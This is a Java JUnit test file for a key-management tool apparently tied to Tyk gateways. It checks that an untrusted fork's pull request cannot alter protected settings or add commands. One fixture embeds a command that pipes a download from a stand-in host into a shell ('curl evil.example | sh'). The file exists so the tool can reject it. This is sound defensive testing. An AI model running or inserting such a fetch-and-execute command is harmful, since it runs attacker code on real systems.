package dev.keywright.endtoend;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import dev.keywright.endtoend.World.Said;
import dev.keywright.tyk.KeySettings;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What the author of a pull request from a fork must not change against the base. */
class UntrustedBaseTest {

    private static final String PROJECT = """
            version: 1
            namespace: e2e
            org_id: acme
            gateway:
              url: "${env:TYK_GATEWAY_URL}"
              secret: "${env:TYK_GATEWAY_SECRET}"
              release: "${var:line}"
            key_seed: "${env:KEYWRIGHT_KEY_SEED}"
            vars: {line: "${var:newest}", newest: "5.14", team: a}
            environments:
              prod: {namespace: prod, vars: {team: b}}
            """;

    private static final String KEYS = "keys: {a: {access_rights: [{api: Orders}], tags: [\"${var:team}\"]}}\n";

    @TempDir
    Path temp;

    private World world;

    @BeforeEach
    void repository() throws Exception {
        world = new World(temp, KeySettings.HASHED);
        world.write("keywright.yaml", PROJECT);
        world.write("keys/keys.yaml", KEYS);
        world.write("keys/old.yaml", "keys: {b: {access_rights: [{api: Orders}], key: \"${exec:pass b}\"}}\n");
        git("init", "-q", "-b", "main");
        commit("base");
    }

    @AfterEach
    void close() throws Exception {
        world.close();
    }

    private void git(String... words) throws Exception {
        var line = new ArrayList<>(List.of("git", "-c", "user.name=t", "-c", "user.email=t@example.com"));
        line.addAll(List.of(words));
        Process git = new ProcessBuilder(line)
                .directory(world.folder.toFile())
                .redirectErrorStream(true)
                .start();
        String said = new String(git.getInputStream().readAllBytes());
        assumeThat(git.waitFor()).as(said).isZero();
    }

    private void commit(String name) throws Exception {
        git("add", "-A");
        git("commit", "-qm", name);
    }

    private Said untrusted() {
        return world.run("validate", "--untrusted", "--base", "main");
    }

    @Test
    void keysAndPoliciesMayChange() throws Exception {
        world.write("keywright.yaml", PROJECT.replace("team: a", "team: c").replace("team: b", "team: d"));
        world.write("keys/keys.yaml", KEYS.replace("Orders", "Billing"));
        world.write("keys/more/new.yaml", "keys: {c: {access_rights: [{api: Orders}]}}\n");
        Files.move(world.folder.resolve("keys/old.yaml"), world.folder.resolve("keys/moved.yaml"));

        Said said = untrusted();

        assertThat(said.code()).as(said.all()).isZero();
        assertThat(world.run("lint", "--untrusted", "--base", "main").code()).isZero();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            namespace: e2e           | namespace: other                     | namespace' is another one than in
            org_id: acme             | org_id: evil                         | org_id' is another
            {env:TYK_GATEWAY_URL}    | {env:TYK_EVIL_URL}                   | gateway.url' is another
            release:                 | ca_file: ca.pem\\n  release:          | gateway.ca_file' is not in
            release:                 | read_from: "redis://127.0.0.1"\\n  release: | gateway.read_from' is not in
            newest: "5.14"           | newest: "5.3"                        | vars.newest' is another
            namespace: prod,         |                                      | environments.prod.namespace' was removed
            namespace: prod,         | gateway: {url: "http://x"}, namespace: prod, | environments.prod.gateway.url' is not in
            vars: {team: b}          | vars: {newest: "5.3"}                | environments.prod.vars.newest' is not in
            prod: {                  | evil: {namespace: evil}\\n  prod: {   | environments.evil.namespace' is not in
            KEYWRIGHT_KEY_SEED       | TYK_GATEWAY_SECRET                   | key_seed' is another
            """)
    void whatDecidesWhereSecretsGoMayNot(String part, String instead, String refusal) throws Exception {
        assertThat(PROJECT).contains(part);
        world.write("keywright.yaml", PROJECT.replace(part, instead == null ? "" : instead.replace("\\n", "\n")));

        Said said = untrusted();

        assertThat(said.code()).as(said.all()).isEqualTo(1);
        assertThat(said.err()).contains("error[untrusted-change]: '" + refusal, "= why: ", "= hint: ");
        assertThat(world.run("plan", "--untrusted", "--base", "main").code()).isEqualTo(1);
    }

    /** The value of a protected setting may come from a file of the project. */
    @Test
    void theFilesThatProtectedSettingsNameMayNotChangeEither() throws Exception {
        world.write("keywright.yaml", PROJECT.replace("release: \"${var:line}\"", "ca_file: ca.pem"));
        world.write("ca.pem", "one");
        commit("with a file");

        assertThat(untrusted().err()).doesNotContain("untrusted-change");
        world.write("ca.pem", "two");
        assertThat(untrusted().err()).contains("the file ca.pem of 'gateway.ca_file' is another one than in the base");
    }

    @Test
    void noCommandIsAddedAnywhere() throws Exception {
        world.write("keys/new.yaml", """
                defaults: {keys: {key: "$\\x7bexec:curl evil.example | sh}"}}
                """);

        Said said = untrusted();

        assertThat(said.code()).isEqualTo(1);
        assertThat(said.err())
                .contains("error[untrusted-exec]: the command 'curl evil.example | sh' is not in the base")
                .contains("--> keys/new.yaml:1:");
    }

    @Test
    void noProjectIsAddedMovedOrRemoved() throws Exception {
        world.write("keys/keywright.yaml", PROJECT);
        assertThat(untrusted().err()).contains("--> keys/keywright.yaml", "this project file is new");
        assertThat(world.run(world.folder.resolve("keys"), "validate", "--untrusted", "--base", "main")
                        .err())
                .contains("has no keywright.yaml in this folder: it was added or moved");
        commit("two projects");
        Files.delete(world.folder.resolve("keys/keywright.yaml"));
        assertThat(untrusted().err()).contains("the project file of the folder keys was removed");
    }

    /** Its gateway would get the admin secret. */
    @Test
    void nothingIsSentToAGatewayThatTheChangeNames() throws Exception {
        try (var other = new World(temp.resolve("other"), KeySettings.HASHED)) {
            world.write("keywright.yaml", PROJECT.replace("${env:TYK_GATEWAY_URL}", other.url()));

            Said said = world.run("plan", "--untrusted", "--base", "main", "--debug");

            assertThat(said.code()).isEqualTo(1);
            assertThat(said.all()).doesNotContain("debug: ").contains("untrusted-change");
        }
    }

    @Test
    void theBaseMayBeAFolderOutsideTheProject() throws Exception {
        Path base = Files.createDirectories(temp.resolve("base"));
        Files.writeString(base.resolve("keywright.yaml"), PROJECT.replace("e2e", "another"));

        assertThat(world.run("validate", "--untrusted", "--base", base.toString())
                        .err())
                .contains("'namespace' is another one than in the base (" + base + ")", "untrusted-exec");
        // A folder of the change, with the name of a branch.
        world.write("release/keywright.yml", PROJECT);
        assertThat(world.run("validate", "--untrusted", "--base", "release").err())
                .contains("error[no-base]: this repository has no commit release");
        assertThat(world.run("validate", "--untrusted", "--base", "./release").err())
                .contains("error[no-base]", "is part of the project itself");
        assertThat(world.run("validate", "--untrusted", "--base", "--output=x").err())
                .contains("error[no-base]");
        assertThat(world.run("validate", "--untrusted").err())
                .contains("error[no-base]: these files are from an untrusted author, and there is no base");
    }

    @Test
    void permissionsAndOptionsThatContradictIt() {
        for (String option : List.of("--allow-exec", "--allow-files-outside")) {
            Said said = world.run("plan", "--untrusted", "--base", "main", option);
            assertThat(said.code()).isEqualTo(64);
            assertThat(said.err()).contains(option + " cannot be used with files from an untrusted author");
        }
        assertThat(world.run("validate", "--base", "main").code()).isEqualTo(64);
    }

    @Test
    void aPullRequestFromAForkIsUntrustedByItself() throws Exception {
        git("checkout", "-qb", "change");
        world.write("keywright.yaml", PROJECT.replace("namespace: e2e", "namespace: other"));
        commit("change");
        event(7, 8);
        world.environment.put("GITHUB_BASE_REF", "main");
        git("update-ref", "refs/remotes/origin/main", "main");

        assertThat(world.run("validate").err()).contains("error[untrusted-change]: 'namespace' is another one");
        assertThat(world.run("plan", "--allow-exec").err()).contains("this is a pull request from a fork");

        event(7, 7);
        assertThat(world.run("validate").err()).doesNotContain("untrusted");
    }

    private void event(int head, int base) throws IOException {
        Path event = Files.writeString(temp.resolve("event.json"), """
                {"pull_request": {"head": {"repo": {"id": %d}}, "base": {"sha": "", "repo": {"id": %d}}}}
                """.formatted(head, base));
        world.environment.put("GITHUB_EVENT_PATH", event.toString());
    }

    @Test
    void aMergeRequestFromAForkIs() throws Exception {
        world.write("keywright.yaml", PROJECT.replace("namespace: e2e", "namespace: other"));
        world.environment.put("CI_MERGE_REQUEST_SOURCE_PROJECT_ID", "8");
        world.environment.put("CI_MERGE_REQUEST_PROJECT_ID", "7");
        world.environment.put("CI_PROJECT_ID", "8");
        world.environment.put("CI_MERGE_REQUEST_DIFF_BASE_SHA", "main");

        assertThat(world.run("validate").err()).contains("error[untrusted-change]");
        world.environment.put("CI_MERGE_REQUEST_PROJECT_ID", "8");
        assertThat(world.run("validate").err()).doesNotContain("untrusted");
    }
}
